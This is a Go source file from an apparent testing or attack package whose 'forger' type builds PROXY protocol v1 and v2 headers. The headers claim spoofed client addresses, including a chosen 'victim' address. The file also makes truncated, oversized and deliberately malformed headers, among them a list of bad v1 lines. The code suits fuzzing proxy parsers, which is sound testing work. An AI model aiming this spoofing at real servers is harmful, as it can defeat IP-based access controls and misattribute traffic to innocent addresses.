package attack

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strings"
)

// The PROXY protocol, as haproxy's doc/proxy-protocol.txt has it. Version 1 is a line of at most 107 bytes:
//
//	PROXY TCP4 10.1.2.3 127.0.0.1 40000 8080 CR LF
//
// Version 2 is 16 bytes and what they announce:
//
//	12 bytes signature | 0x21 version 2, PROXY | 0x11 TCP4, 0x21 TCP6 | 2 bytes length | source, destination, two ports | TLVs
const signature = "\r\n\r\n\x00\r\nQUIT\n"

// The bytes of a version 2 header.
const (
	v2Proxy = 0x21 // version 2, a connection on behalf of another
	v2TCP4  = 0x11
	v2TCP6  = 0x21
	noop    = 0x04 // the TLV that is to be skipped
)

// Forms of a header.
const (
	formGood = "good" // as a proxy would send it
	formCut  = "cut"  // a good one that stops short, and then nothing
	formHuge = "huge" // the longest there can be, or longer
	formBad  = "bad"  // malformed, in a different way each time
)

// forger makes PROXY headers that claim addresses which are not the attacker's. Not for concurrent use.
type forger struct {
	v2     bool
	form   string
	victim netip.Addr // claimed each time; invalid: another one each time
	to     netip.AddrPort
	n      uint32 // counts headers, from anywhere
	out    []byte
}

func newForger(o Options, to netip.AddrPort) *forger {
	f := &forger{v2: strings.HasSuffix(o.Version, "2"), form: o.Form, to: to, n: rand.Uint32()}
	f.victim, _ = netip.ParseAddr(o.Victim)
	return f
}

// claim returns the next address and port to claim: 10/8 and 2001:db8::/32 in turn, in the latter each in a /64 of its
// own.
func (f *forger) claim() netip.AddrPort {
	n := f.n
	port := uint16(1024 + n%60000)
	switch {
	case f.victim.IsValid():
		return netip.AddrPortFrom(f.victim, port)
	case n%2 == 0:
		n /= 2
		return netip.AddrPortFrom(netip.AddrFrom4([4]byte{10, byte(n >> 16), byte(n >> 8), byte(n)}), port)
	}
	a := [16]byte{0x20, 0x01, 0x0d, 0xb8, 15: 1}
	binary.BigEndian.PutUint32(a[4:], n/2)
	return netip.AddrPortFrom(netip.AddrFrom16(a), port)
}

// destination is what the proxy says it was asked for: the target, or ::1 where the claim is of the other family.
func (f *forger) destination(source netip.AddrPort) netip.AddrPort {
	switch {
	case f.to.Addr().Is4() == source.Addr().Is4():
		return f.to
	case source.Addr().Is4():
		return netip.AddrPortFrom(netip.AddrFrom4([4]byte{127, 0, 0, 1}), f.to.Port())
	}
	return netip.AddrPortFrom(netip.IPv6Loopback(), f.to.Port())
}

// next returns the next header, good until the call after it.
func (f *forger) next() []byte {
	f.n++
	source := f.claim()
	f.out = f.out[:0]
	switch f.form {
	case formHuge:
		f.out = f.huge(source)
	case formBad:
		f.out = append(f.out, f.bad(source)...)
	case formCut:
		f.out = f.good(source)
		f.out = f.out[:1+int(f.n)%(len(f.out)-1)]
	default:
		f.out = f.good(source)
	}
	return f.out
}

func (f *forger) good(source netip.AddrPort) []byte {
	to := f.destination(source)
	if f.v2 {
		return f.binary(source, to, 0)
	}
	family := "TCP4"
	if source.Addr().Is6() {
		family = "TCP6"
	}
	return fmt.Appendf(f.out, "PROXY %s %s %s %d %d\r\n", family, source.Addr(), to.Addr(), source.Port(), to.Port())
}

// binary appends a version 2 header with so many more bytes in one TLV, 0 or at least 3.
func (f *forger) binary(source, to netip.AddrPort, more int) []byte {
	family, length := byte(v2TCP4), 12
	if source.Addr().Is6() {
		family, length = v2TCP6, 36
	}
	b := append(append(f.out, signature...), v2Proxy, family)
	b = binary.BigEndian.AppendUint16(b, uint16(length+more))
	b = append(append(b, source.Addr().AsSlice()...), to.Addr().AsSlice()...)
	b = binary.BigEndian.AppendUint16(b, source.Port())
	b = binary.BigEndian.AppendUint16(b, to.Port())
	if more > 0 {
		b = append(b, noop)
		b = binary.BigEndian.AppendUint16(b, uint16(more-3))
		b = append(b, make([]byte, more-3)...)
	}
	return b
}

// huge is the longest header that version 2 can announce, correct in every other way; in version 1 a line that is far
// beyond its 107 bytes.
func (f *forger) huge(source netip.AddrPort) []byte {
	to := f.destination(source)
	if f.v2 {
		length := 12
		if source.Addr().Is6() {
			length = 36
		}
		return f.binary(source, to, 65535-length)
	}
	good := f.good(source)
	blanks := strings.Repeat(" ", 4096)
	return append(append(good[:len(good)-2], blanks...), "\r\n"...)
}

// bad returns the next malformed header.
func (f *forger) bad(source netip.AddrPort) []byte {
	if !f.v2 {
		return []byte(badLines[int(f.n)%len(badLines)] + "\r\n")
	}
	b := f.binary(source, f.destination(source), 3)
	switch f.n % 6 {
	case 0:
		b[12] = 0x31 // a version 3
	case 1:
		b[12] = 0x2f // a command that does not exist
	case 2:
		b[13] = 0x51 // a family that does not exist
	case 3:
		b[14], b[15] = 0, 4 // too short for its addresses
		b = b[:20]
	case 4:
		b[len(b)-1] = 200 // a TLV that runs past the end
	case 5:
		b[11] = '\r' // a signature that is wrong in its last byte
	}
	return b
}

// badLines are malformed version 1 headers.
var badLines = []string{
	"PROXY TCP4 10.0.0.1 127.0.0.1 99999 80",
	"PROXY TCP4 10.0.0.1 127.0.0.1 080 80",
	"PROXY TCP4 010.0.0.1 127.0.0.1 80 80",
	"PROXY TCP4 2001:db8::1 127.0.0.1 80 80",
	"PROXY TCP6 10.0.0.1 ::1 80 80",
	"PROXY TCP4 10.0.0.1 127.0.0.1 80",
	"PROXY TCP4 10.0.0.1 127.0.0.1 80 80 80",
	"PROXY TCP4  10.0.0.1 127.0.0.1 80 80",
	"PROXY TCP5 10.0.0.1 127.0.0.1 80 80",
	"proxy tcp4 10.0.0.1 127.0.0.1 80 80",
	"PROXY TCP4 10.0.0.1 127.0.0.1 -1 80",
	"PROXY",
}
